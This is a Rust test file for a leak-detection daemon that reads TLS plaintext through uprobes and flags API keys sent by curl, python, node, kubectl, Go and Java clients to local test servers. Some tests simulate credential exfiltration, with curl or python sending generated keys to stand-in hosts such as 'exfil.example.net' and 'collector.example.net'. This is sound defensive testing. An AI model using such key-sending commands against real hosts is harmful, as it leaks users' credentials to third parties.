//! TLS plaintext with the real uprobes: real clients (python `http.client`, curl, node
//! `https`) send a fresh key over HTTPS to a local TLS server on loopback; the key is
//! found in the plaintext `SSL_write` passed, on the client's socket, with `tls: true`.
//! Every daemon sees the whole host: alerts are matched only on this test's fingerprints.
use std::{
    io::{BufRead, BufReader},
    process::{Child, Command, Stdio},
};

use leakwatch_tests::*;
use serde_json::Value;

/// A TLS server on 127.0.0.1 (python `ssl`, a throwaway self-signed certificate made
/// for the test) answering every HTTP request with 200.
struct TlsServer {
    _child: Reaped,
    port: u16,
}

const SERVER: &str = r#"
import socket, ssl, sys, threading
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(64)
print(s.getsockname()[1], flush=True)
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        data = b""
        while b"\r\n\r\n" not in data:
            d = t.recv(65536)
            if not d:
                return
            data += d
        head, _, body = data.partition(b"\r\n\r\n")
        n = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                n = int(line.split(b":")[1])
        while len(body) < n:
            d = t.recv(65536)
            if not d:
                break
            body += d
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        t.close()
    except Exception:
        pass
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#;

impl TlsServer {
    fn start(dir: &std::path::Path) -> TlsServer {
        let (cert, key) = test_cert(dir);
        let mut child: Child = python()
            .arg("-c")
            .arg(SERVER)
            .arg(&cert)
            .arg(&key)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().expect("the TLS server's port");
        TlsServer {
            _child: Reaped(child),
            port,
        }
    }

    fn addr(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }
}

/// Waits until the TLS probes are on libssl and node (attached in the background at start).
fn tls_ready(d: &Daemon) {
    wait_until(60, "the TLS probes attached to libssl and node", || {
        (d.metric("leakwatch_tls_files_total", &[("outcome", "attached")]) >= 2.0).then_some(())
    });
}

/// Waits until `status` lists the executable at `path` as one whose TLS is read.
fn tls_visible(d: &Daemon, path: &str) {
    wait_until(60, &format!("the TLS probe attached to {path}"), || {
        d.status()["tls_visible"]
            .as_array()
            .is_some_and(|l| l.iter().any(|f| f.as_str() == Some(path)))
            .then_some(())
    });
}

fn tls_finding(d: &Daemon, fp: &str, pid: u32, what: &str) -> Value {
    wait_until(20, what, || {
        d.findings(fp)
            .into_iter()
            .find(|a| n(a, "pid") == pid as u64 && a["tls"] == true)
    })
}

fn check(a: &Value, srv: &TlsServer, comm: &str) {
    assert_eq!(s(a, "source"), "socket", "{a:#}");
    assert_eq!(s(a, "remote"), srv.addr(), "{a:#}");
    assert_eq!(s(a, "probe"), "uprobe_ssl_write", "{a:#}");
    assert_eq!(s(a, "comm"), comm, "{a:#}");
}

#[test]
fn tls_python_http_client_json_body() {
    let mut d = Daemon::start("tls-python");
    let srv = TlsServer::start(&d.scratch());
    tls_ready(&d);
    let (secret, text) = secret("openai-project-key");
    let fp = fingerprint(&secret);
    let mut c = python()
        .arg("-c")
        .arg(
            "import http.client, json, ssl, sys\n\
             c = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), \
             context=ssl._create_unverified_context())\n\
             c.request('POST', '/v1/x', json.dumps({'api_key': sys.argv[2]}), \
             {'Content-Type': 'application/json'})\n\
             assert c.getresponse().status == 200\n",
        )
        .arg(srv.port.to_string())
        .arg(&text)
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 30, "python https").success());
    let a = tls_finding(&d, &fp, pid, "the key in python's TLS plaintext");
    check(&a, &srv, "python3");
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

#[test]
fn tls_curl_header() {
    let mut d = Daemon::start("tls-curl");
    let srv = TlsServer::start(&d.scratch());
    tls_ready(&d);
    let (secret, text) = secret("anthropic-api-key");
    let fp = fingerprint(&secret);
    let mut c = Command::new("curl")
        .args(["-sk", "-o", "/dev/null", "-H"])
        .arg(format!("x-api-key: {text}"))
        .arg(format!("https://{}/v1/messages", srv.addr()))
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 30, "curl https").success());
    let a = tls_finding(&d, &fp, pid, "the key in curl's TLS plaintext");
    check(&a, &srv, "curl");
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// node carries OpenSSL in its own executable and writes TLS through a memory BIO: the
/// plaintext is tied to the socket by the ciphertext write that follows it.
#[test]
fn tls_node_https_request() {
    let mut d = Daemon::start("tls-node");
    let srv = TlsServer::start(&d.scratch());
    tls_ready(&d);
    let (secret, text) = secret("github-pat");
    let fp = fingerprint(&secret);
    let mut c = Command::new("node")
        .arg("-e")
        .arg(
            "const https = require('https');\n\
             const r = https.request({host: '127.0.0.1', port: +process.argv[1], \
             method: 'POST', path: '/repos', rejectUnauthorized: false, \
             headers: {Authorization: 'token ' + process.argv[2]}}, \
             (res) => { res.resume(); res.on('end', () => process.exit(0)); });\n\
             r.end('{}');",
        )
        .arg(srv.port.to_string())
        .arg(&text)
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 30, "node https").success());
    let a = tls_finding(&d, &fp, pid, "the key in node's TLS plaintext");
    check(&a, &srv, "node");
    let paired = [("probe", "uprobe_ssl_write"), ("socket", "paired")];
    assert!(d.metric("leakwatch_tls_records_total", &paired) >= 1.0);
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// Go does TLS in Go (`crypto/tls`), not through OpenSSL. kubectl (a stripped Go
/// program, as released Go tools are) sends the token from its kubeconfig as a bearer
/// header: the key is only in what `crypto/tls.(*Conn).Write` is given.
#[test]
fn tls_kubectl_bearer_token_through_go_crypto_tls() {
    let mut d = Daemon::start("tls-go");
    let srv = TlsServer::start(&d.scratch());
    let exe = std::fs::canonicalize(
        which("kubectl").expect("kubectl is installed on this machine kind (google-cloud-cli)"),
    )
    .unwrap();
    let exe = exe.to_str().unwrap().to_string();
    // Found in the background at start (the `/usr/bin` links are followed).
    tls_visible(&d, &exe);
    let (secret, text) = secret("anthropic-api-key");
    let fp = fingerprint(&secret);
    let dir = d.scratch();
    let config = dir.join("kubeconfig");
    std::fs::write(
        &config,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://{}\n    insecure-skip-tls-verify: true\nusers:\n- name: u\n  user:\n    token: {text}\ncontexts:\n- name: x\n  context: {{cluster: c, user: u}}\ncurrent-context: x\n",
            srv.addr()
        ),
    )
    .unwrap();
    let mut c = Command::new(&exe)
        .args([
            "--request-timeout=10s",
            "get",
            "--raw",
            "/version",
            "--kubeconfig",
        ])
        .arg(&config)
        .env("HOME", &dir)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = c.id();
    wait_exit(&mut c, 30, "kubectl");
    let a = tls_finding(&d, &fp, pid, "the token in kubectl's Go TLS plaintext");
    assert_eq!(s(&a, "source"), "socket", "{a:#}");
    assert_eq!(s(&a, "remote"), srv.addr(), "{a:#}");
    assert_eq!(s(&a, "probe"), "uprobe_go_tls_write", "{a:#}");
    assert_eq!(s(&a, "comm"), "kubectl", "{a:#}");
    // Its socket read from the `Conn`, not guessed from the thread's next write.
    let named = [("probe", "uprobe_go_tls_write"), ("socket", "named")];
    assert!(
        d.metric("leakwatch_tls_records_total", &named) >= 1.0,
        "{}",
        d.scrape()
            .lines()
            .filter(|l| l.starts_with("leakwatch_tls_records_total"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    // Its TLS is seen, so it is no blind spot.
    let blind = d.status()["tls_blind"].clone();
    assert!(
        !blind.to_string().contains(&exe),
        "kubectl listed as a TLS blind spot: {blind:#}"
    );
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// A Go TLS client over a wrapper `net.Conn` (proxies, metrics and tracing libraries wrap
/// connections so). The wrapper's first word points at a decoy whose third word holds
/// another open socket's fd, where a `*net.TCPConn`'s `netFD` keeps its `Sysfd`.
const GO_WRAPPED: &str = r#"
package main

import (
	"bufio"
	"crypto/tls"
	"net"
	"os"
	"strings"
	"time"
)

type wrapped struct {
	decoy *[8]int64
	net.Conn
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}

func main() {
	if len(os.Args) < 4 {
		return
	}
	// Told to, it waits for a file before it leaks (a minute at most: a failed test
	// leaves no process behind).
	if f := os.Getenv("LW_GO_WAIT"); f != "" {
		for i := 0; ; i++ {
			if _, err := os.Stat(f); err == nil {
				break
			}
			if i == 6000 {
				os.Exit(3)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	key, err := os.ReadFile(os.Args[3])
	must(err)
	other, err := net.Dial("tcp", os.Args[2])
	must(err)
	raw, err := other.(*net.TCPConn).SyscallConn()
	must(err)
	decoy := new([8]int64)
	must(raw.Control(func(fd uintptr) { decoy[2] = int64(fd) }))
	c, err := net.Dial("tcp", os.Args[1])
	must(err)
	t := tls.Client(wrapped{decoy, c}, &tls.Config{InsecureSkipVerify: true})
	req := "POST /v1/messages HTTP/1.1\r\nHost: api\r\nx-api-key: " + strings.TrimSpace(string(key)) + "\r\nContent-Length: 0\r\n\r\n"
	_, err = t.Write([]byte(req))
	must(err)
	_, err = bufio.NewReader(t).ReadString('\n')
	must(err)
	t.Close()
	other.Close()
}
"#;

/// `GO_WRAPPED`, built into `dir`.
fn go_wrapped(dir: &std::path::Path) -> std::path::PathBuf {
    let go = which("go").expect("go is installed (cargo xtask install: golang-go)");
    let src = dir.join("wrapped.go");
    let exe = dir.join("wrapped");
    std::fs::write(&src, GO_WRAPPED).unwrap();
    // Its build cache outlives the run (a few seconds the first time, with Debian's
    // prebuilt standard library).
    let cache = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/go-cache");
    let out = Command::new(&go)
        .arg("build")
        .arg("-o")
        .arg(&exe)
        .arg(&src)
        .env("GOCACHE", &cache)
        .env("HOME", dir)
        .env("GO111MODULE", "off")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "go build: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    exe
}

/// The finding for `fp` from `c`, a Go client run to its end, taken by the Go probe.
fn go_client_finding(d: &Daemon, c: &mut std::process::Child, fp: &str, what: &str) -> Value {
    let pid = c.id();
    let st = wait_exit(c, 30, what);
    assert!(st.success(), "{what} failed: {st}");
    let a = tls_finding(d, fp, pid, &format!("the key in {what}'s TLS plaintext"));
    assert_eq!(s(&a, "probe"), "uprobe_go_tls_write", "{a:#}");
    a
}

/// Go's plaintext over a wrapper `net.Conn` is tied to the connection it went out on, not
/// to whatever socket the number where a `netFD`'s fd would be names (here, on purpose,
/// another open connection's).
#[test]
fn tls_go_wrapped_conn_is_tied_to_its_own_connection() {
    let mut d = Daemon::start("tls-go-wrapped");
    let srv = TlsServer::start(&d.scratch());
    let decoy = TcpPeer::start();
    let dir = d.scratch();
    let exe = go_wrapped(&dir);
    // Its first exec has it checked; the probe is on before the run that leaks.
    let st = Command::new(&exe).status().unwrap();
    assert!(st.success());
    let path = std::fs::canonicalize(&exe).unwrap();
    let path = path.to_str().unwrap().to_string();
    tls_visible(&d, &path);
    let (secret, text) = secret("anthropic-api-key");
    let fp = fingerprint(&secret);
    let keyfile = dir.join("key");
    std::fs::write(&keyfile, &text).unwrap();
    let mut c = Command::new(&exe)
        .arg(srv.addr())
        .arg(decoy.addr())
        .arg(&keyfile)
        .spawn()
        .unwrap();
    let a = go_client_finding(&d, &mut c, &fp, "the wrapped Go client");
    assert_eq!(s(&a, "source"), "socket", "{a:#}");
    // Not the decoy's connection, whose fd sat where a `netFD`'s would.
    assert_eq!(
        s(&a, "remote"),
        srv.addr(),
        "decoy at {}: {a:#}",
        decoy.addr()
    );
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// A program whose file is renamed over while it runs (a package upgrade does that) is
/// probed all the same: the watcher finds the image through `/proc/PID/exe`, which names
/// the file the process runs, not whatever its path names by then (`… (deleted)`).
#[test]
fn tls_go_program_renamed_over_while_it_runs_is_probed() {
    let mut d = Daemon::start("tls-go-renamed");
    let srv = TlsServer::start(&d.scratch());
    let decoy = TcpPeer::start();
    let dir = d.scratch();
    let exe = go_wrapped(&dir);
    let path = std::fs::canonicalize(&exe).unwrap();
    let path = path.to_str().unwrap().to_string();
    let other = dir.join("other");
    std::fs::copy("/bin/true", &other).unwrap();
    let (secret, text) = secret("anthropic-api-key");
    let fp = fingerprint(&secret);
    let keyfile = dir.join("key");
    std::fs::write(&keyfile, &text).unwrap();
    let go_on = dir.join("go-on");
    // Its first run, so no probe is on its file yet; renamed over before the watcher
    // looks: the daemon is stopped meanwhile (the exec record waits in its ring).
    let daemon = d.child.as_ref().expect("the daemon runs").id() as i32;
    // SAFETY: signals to the daemon this test started.
    assert_eq!(unsafe { libc::kill(daemon, libc::SIGSTOP) }, 0);
    all_stopped(daemon);
    let c = Command::new(&exe)
        .arg(srv.addr())
        .arg(decoy.addr())
        .arg(&keyfile)
        .env("LW_GO_WAIT", &go_on)
        .spawn();
    let renamed = std::fs::rename(&other, &exe);
    // SAFETY: as above.
    assert_eq!(unsafe { libc::kill(daemon, libc::SIGCONT) }, 0);
    let mut c = c.unwrap();
    renamed.unwrap();
    tls_visible(&d, &format!("{path} (deleted)"));
    std::fs::write(&go_on, "").unwrap();
    let a = go_client_finding(&d, &mut c, &fp, "the renamed Go client");
    assert_eq!(s(&a, "remote"), srv.addr(), "{a:#}");
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// Waits until every thread of `pid` is stopped. A SIGSTOP stops a process's threads one
/// by one (the thread that takes it stops the others), so a thread already running can
/// go on for a while after `kill` returns: in CI one read an exec made after it.
fn all_stopped(pid: i32) {
    wait_until(10, "the daemon's threads to stop", || {
        let tasks = std::fs::read_dir(format!("/proc/{pid}/task")).ok()?;
        let mut n = 0;
        for t in tasks {
            let stat = std::fs::read_to_string(t.ok()?.path().join("stat")).ok()?;
            // The state follows the name, which may hold spaces and parentheses.
            let state = stat.rsplit_once(')')?.1.split_whitespace().next()?;
            if state != "T" {
                return None;
            }
            n += 1;
        }
        (n > 0).then_some(())
    })
}

/// curl to `host` (resolved to the local server), the key in a header read from a file
/// (not argv): SNI and `Host:` name `host`.
fn curl_as(d: &Daemon, srv: &TlsServer, host: &str, header: &str) -> u32 {
    let hfile = d.scratch().join(format!("h-{host}"));
    std::fs::write(&hfile, format!("{header}\n")).unwrap();
    let mut c = Command::new("curl")
        .args(["-sk", "-o", "/dev/null", "--resolve"])
        .arg(format!("{host}:{}:127.0.0.1", srv.port))
        .arg("-H")
        .arg(format!("@{}", hfile.display()))
        .arg(format!("https://{host}:{}/v1/messages", srv.port))
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 30, "curl https").success());
    pid
}

/// The action log's finding row for `fp` from `pid`, once written.
fn finding_row(d: &Daemon, fp: &str, pid: u32, what: &str) -> Value {
    wait_until(20, what, || {
        actions(d, &["--fingerprint", fp]).into_iter().find(|r| {
            s(r, "kind") == "finding" && n(r, "pid") == pid as u64 && s(r, "source") == "socket"
        })
    })
}

/// Every agent sends its model key to its provider: that is recorded, not alerted. But a
/// name is the sender's own claim: it counts only where it resolves to the peer. Here the
/// rule's destinations include `localhost`: the key sent under that name to 127.0.0.1 is
/// expected; sent under its provider's name to this local server (which that name does
/// not resolve to) it alerts, as it does sent to any other host.
#[test]
fn tls_key_sent_to_its_own_provider_is_expected_only_where_the_name_resolves() {
    let mut d = Daemon::start_with_config(
        "tls-expected",
        "[[destination]]\nrule = \"anthropic-api-key\"\nhosts = [\"localhost\"]\n",
    );
    let srv = TlsServer::start(&d.scratch());
    tls_ready(&d);
    let (own, own_text) = secret("anthropic-api-key");
    let own_fp = fingerprint(&own);
    let pid = curl_as(&d, &srv, "localhost", &format!("x-api-key: {own_text}"));
    let row = finding_row(&d, &own_fp, pid, "the send to localhost in the action log");
    assert_eq!(row["expected"], true, "{row:#}");
    assert_eq!(s(&row, "host_check"), "resolved", "{row:#}");
    // The name of the key's own provider, sent to a server that name does not resolve to.
    let (posing, posing_text) = secret("anthropic-api-key");
    let posing_fp = fingerprint(&posing);
    let pid2 = curl_as(
        &d,
        &srv,
        "api.anthropic.com",
        &format!("x-api-key: {posing_text}"),
    );
    let a = tls_finding(
        &d,
        &posing_fp,
        pid2,
        "the key sent under its provider's name",
    );
    assert_eq!(s(&a, "host"), "api.anthropic.com", "{a:#}");
    assert!(
        ["unresolved", "mismatch"].contains(&s(&a, "host_check")),
        "{a:#}"
    );
    check(&a, &srv, "curl");
    let (other, other_text) = secret("anthropic-api-key");
    let other_fp = fingerprint(&other);
    let pid3 = curl_as(
        &d,
        &srv,
        "exfil.example.net",
        &format!("x-api-key: {other_text}"),
    );
    let a = tls_finding(&d, &other_fp, pid3, "the key sent to another host");
    assert_eq!(s(&a, "host"), "exfil.example.net", "{a:#}");
    assert!(a.get("host_check").is_none(), "{a:#}");
    check(&a, &srv, "curl");
    // By then the first send has long been through the pipeline: it raised nothing.
    let own_alerts: Vec<Value> = d
        .findings(&own_fp)
        .into_iter()
        .filter(|a| n(a, "pid") == pid as u64)
        .collect();
    assert!(
        own_alerts.is_empty(),
        "expected send alerted: {own_alerts:#?}"
    );
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&own, &posing, &other]);
}

/// python `http.client` POSTs `key` (read from stdin: in argv it would be a finding of
/// its own) in a JSON body to `sink` with `Host: host`.
fn post_as(sink: &HttpSink, host: &str, key: &str) -> u32 {
    use std::io::Write;
    let mut c = python()
        .arg("-c")
        .arg(
            "import http.client, sys\n\
             c = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]))\n\
             c.request('POST', '/v1/chat', '{\"k\": \"' + sys.stdin.read() + '\"}', \
             {'Host': sys.argv[3]})\n\
             c.getresponse().read()\n",
        )
        .arg(&sink.ip)
        .arg(sink.port.to_string())
        .arg(host)
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = c.id();
    c.stdin.take().unwrap().write_all(key.as_bytes()).unwrap();
    assert!(wait_exit(&mut c, 30, "python http").success());
    pid
}

/// A name sent to an address it does not resolve to alerts as a mismatch and says where
/// the name does resolve; sent to a declared proxy (whose peer is never the named host)
/// it is trusted.
#[test]
fn a_host_name_counts_only_at_its_own_addresses_or_a_declared_proxy() {
    let mut d = Daemon::start_with_config(
        "host-check",
        "[[destination]]\nrule = \"openai-project-key\"\nhosts = [\"localhost\"]\n\
         [host_check]\nproxies = [\"127.0.0.3\"]\n",
    );
    let elsewhere = HttpSink::start_on("127.0.0.2");
    let proxy = HttpSink::start_on("127.0.0.3");
    let (moved, moved_text) = secret("openai-project-key");
    let moved_fp = fingerprint(&moved);
    let pid = post_as(&elsewhere, "localhost", &moved_text);
    let a = wait_until(20, "the key sent as localhost to 127.0.0.2", || {
        d.findings(&moved_fp)
            .into_iter()
            .find(|a| n(a, "pid") == pid as u64 && s(a, "source") == "socket")
    });
    assert_eq!(s(&a, "host"), "localhost", "{a:#}");
    assert_eq!(s(&a, "remote"), elsewhere.addr(), "{a:#}");
    assert_eq!(s(&a, "host_check"), "mismatch", "{a:#}");
    assert!(
        a["host_addresses"]
            .as_array()
            .is_some_and(|v| v.iter().any(|x| x == "127.0.0.1")),
        "{a:#}"
    );
    let (proxied, proxied_text) = secret("openai-project-key");
    let proxied_fp = fingerprint(&proxied);
    let pid2 = post_as(&proxy, "api.openai.com", &proxied_text);
    let row = finding_row(&d, &proxied_fp, pid2, "the send through the proxy");
    assert_eq!(row["expected"], true, "{row:#}");
    assert_eq!(s(&row, "host_check"), "proxy", "{row:#}");
    assert!(d.findings(&proxied_fp).is_empty(), "a proxied send alerted");
    d.stop();
    d.assert_no_plaintext(&[&moved, &proxied]);
}

/// Plain HTTP names its host in the `Host:` header.
#[test]
fn plain_http_host_header_names_the_host() {
    let mut d = Daemon::start("http-host");
    let sink = HttpSink::start();
    let (secret, text) = secret("openai-project-key");
    let fp = fingerprint(&secret);
    let mut c = python()
        .arg("-c")
        .arg(
            "import http.client, sys\n\
             c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]))\n\
             c.request('POST', '/ingest', '{\"k\": \"' + sys.argv[2] + '\"}', \
             {'Host': 'collector.example.net'})\n\
             c.getresponse().read()\n",
        )
        .arg(sink.port.to_string())
        .arg(&text)
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 30, "python http").success());
    let a = wait_until(20, "the key sent over plain HTTP", || {
        d.findings(&fp)
            .into_iter()
            .find(|a| n(a, "pid") == pid as u64 && s(a, "source") == "socket")
    });
    assert_eq!(s(&a, "host"), "collector.example.net", "{a:#}");
    assert_eq!(s(&a, "remote"), sink.addr(), "{a:#}");
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// A frozen key is expected nowhere: sent over TLS (even to its own provider's name) its
/// sender is killed.
#[test]
fn tls_frozen_key_sender_is_killed() {
    let mut d = Daemon::start("tls-frozen");
    let srv = TlsServer::start(&d.scratch());
    tls_ready(&d);
    let (secret, text) = secret("openai-project-key");
    let out = freeze_with(&d, &secret, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Read from a file: in argv or the environment the kernel would kill it at exec.
    let kfile = d.scratch().join("key");
    std::fs::write(&kfile, &text).unwrap();
    let mut c = python()
        .arg("-c")
        .arg(
            "import socket, ssl, sys, time\n\
             key = open(sys.argv[2]).read()\n\
             ctx = ssl._create_unverified_context()\n\
             s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', int(sys.argv[1]))), \
             server_hostname='api.openai.com')\n\
             body = '{\"api_key\": \"' + key + '\"}'\n\
             s.sendall(('POST / HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Length: %d\\r\\n\\r\\n%s' \
             % (len(body), body)).encode())\n\
             time.sleep(30)\n",
        )
        .arg(srv.port.to_string())
        .arg(&kfile)
        .spawn()
        .unwrap();
    let pid = c.id();
    let st = wait_exit(&mut c, 20, "the sender of a frozen key being killed");
    assert!(!st.success(), "the sender survived");
    let k = d.wait_alert("a kill of the TLS sender", |a| {
        s(a, "kind") == "kill" && n(a, "pid") == pid as u64
    });
    assert_eq!(s(&k, "by"), "write", "{k:#}");
    drop(srv);
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}

/// Java's TLS is written in Java: no uprobe sees it. A Java program that connects out is
/// listed by `status` as a blind spot, so the operator knows.
#[test]
fn tls_blind_java_is_listed_by_status() {
    let mut d = Daemon::start("tls-blind");
    let srv = TlsServer::start(&d.scratch());
    let dir = d.scratch();
    std::fs::write(
        dir.join("Conn.java"),
        "public class Conn { public static void main(String[] a) throws Exception { \
         try (java.net.Socket s = new java.net.Socket(\"127.0.0.1\", Integer.parseInt(a[0]))) {} } }\n",
    )
    .unwrap();
    let mut c = Command::new("java")
        .arg("Conn.java")
        .arg(srv.port.to_string())
        .current_dir(&dir)
        .spawn()
        .unwrap();
    let pid = c.id();
    assert!(wait_exit(&mut c, 60, "java connecting").success());
    let b = wait_until(20, "java listed as a TLS blind spot", || {
        d.status()["tls_blind"]
            .as_array()
            .and_then(|l| l.iter().find(|b| n(b, "pid") == pid as u64).cloned())
    });
    assert_eq!(s(&b, "reason"), "java", "{b:#}");
    assert_eq!(s(&b, "remote"), srv.addr(), "{b:#}");
    assert!(s(&b, "exe").ends_with("/java"), "{b:#}");
    assert!(d.metric("leakwatch_tls_blind_programs", &[]) >= 1.0);
    drop(srv);
    d.stop();
}

/// Over HTTP/2 a header value is HPACK-coded (Huffman, usually): curl's key header is
/// not in the bytes `SSL_write` passed, only in their decoding.
#[test]
fn tls_curl_http2_header_is_decoded() {
    let mut d = Daemon::start("tls-h2");
    let dir = d.scratch();
    let (cert, key) = test_cert(&dir);
    let mut srv = Command::new("node")
        .arg("-e")
        .arg(
            "const fs = require('fs'), http2 = require('http2');\n\
             const s = http2.createSecureServer({key: fs.readFileSync(process.argv[1]), \
             cert: fs.readFileSync(process.argv[2])});\n\
             s.on('stream', (st) => { st.respond({':status': 200}); st.end('ok'); });\n\
             s.listen(0, '127.0.0.1', () => console.log(s.address().port));",
        )
        .arg(&key)
        .arg(&cert)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(srv.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let _srv = Reaped(srv);
    let port: u16 = line.trim().parse().unwrap();
    tls_ready(&d);
    let (secret, text) = secret("openai-project-key");
    let fp = fingerprint(&secret);
    let hfile = dir.join("h2-header");
    std::fs::write(&hfile, format!("Authorization: Bearer {text}\n")).unwrap();
    let c = Command::new("curl")
        .args([
            "-sk",
            "--http2",
            "-o",
            "/dev/null",
            "-w",
            "%{http_version}",
            "-H",
        ])
        .arg(format!("@{}", hfile.display()))
        .arg(format!("https://127.0.0.1:{port}/v1/chat"))
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = c.id();
    let out = c.wait_with_output().unwrap();
    assert!(out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "2",
        "HTTP/2 was negotiated"
    );
    let a = tls_finding(&d, &fp, pid, "the key in curl's HTTP/2 headers");
    assert_eq!(s(&a, "remote"), format!("127.0.0.1:{port}"), "{a:#}");
    assert_eq!(s(&a, "comm"), "curl", "{a:#}");
    d.stop();
    d.assert_no_plaintext(&[&secret]);
}
